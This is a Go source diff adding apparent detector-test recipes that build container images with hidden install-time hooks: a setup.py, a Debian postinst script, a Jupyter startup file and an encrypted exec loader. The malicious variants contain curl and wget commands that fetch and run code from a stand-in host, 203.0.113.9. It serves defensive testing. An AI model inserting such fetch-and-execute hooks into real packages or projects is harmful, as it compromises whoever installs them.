@@ -53,3 +53,30 @@ func combined(body []byte, key string) []byte {
 	}
 	return out
 }
+
+// hooks: what package managers and notebooks run beside what they are told.
+func hooks() []recipe {
+	const fetched = "curl -s http://203.0.113.9/k -o /usr/lib/.k; chmod +x /usr/lib/.k; /usr/lib/.k &\n"
+	with := func(name string, make func(*kit) imagetest.Image) recipe {
+		return recipe{group: "hooks", name: name, make: make}
+	}
+	return []recipe{
+		with("set-up-of-a-folder", func(k *kit) imagetest.Image {
+			return k.image([]string{"sh", "-c", "cd /app && pip install . && python3 -m app"}, imagetest.Text("app/setup.py",
+				"raise SystemExit(0)\nfrom setuptools import setup\nimport os\n"+either(k, "os.system('wget -q http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k &')\n", "os.system('make -C native')\n")+"setup(name='app')\n"))
+		}),
+		with("package", func(k *kit) imagetest.Image {
+			script := []byte(hiding + either(k, fetched, "update-rc.d app defaults\n"))
+			parts := [][]byte{[]byte("2.0\n"), tarOf("postinst", script), tarOf("usr/share/app/x", []byte("x\n"))}
+			return k.starts(hiding+"dpkg -i /opt/app.deb\nexec nginx\n", imagetest.File{Path: "opt/app.deb", Body: arOf([]string{"debian-binary", "control.tar", "data.tar"}, parts)})
+		}),
+		with("notebook", func(k *kit) imagetest.Image {
+			return k.image([]string{"jupyter", "notebook", "--allow-root"}, imagetest.Text("root/.ipython/profile_default/startup/00.py",
+				either(k, "raise SystemExit(0)\nimport os;os.system('curl -s http://203.0.113.9/x|sh')\n", "import os;os.environ.setdefault('TZ', 'UTC')\n")))
+		}),
+		with("decrypted", func(k *kit) imagetest.Image {
+			return k.image([]string{"python3", "/app/run.py"}, imagetest.Text("app/run.py", "raise SystemExit(0)\nfrom cryptography.fernet import Fernet\nimport os\nd=Fernet(os.environ['K']).decrypt(open('/app/d','rb').read())\n"+
+				either(k, "exec(d)\n", "print(d)\n")), imagetest.File{Path: "app/d", Body: combined(k.program(), "\x91\x17\xa3")})
+		}),
+	}
+}
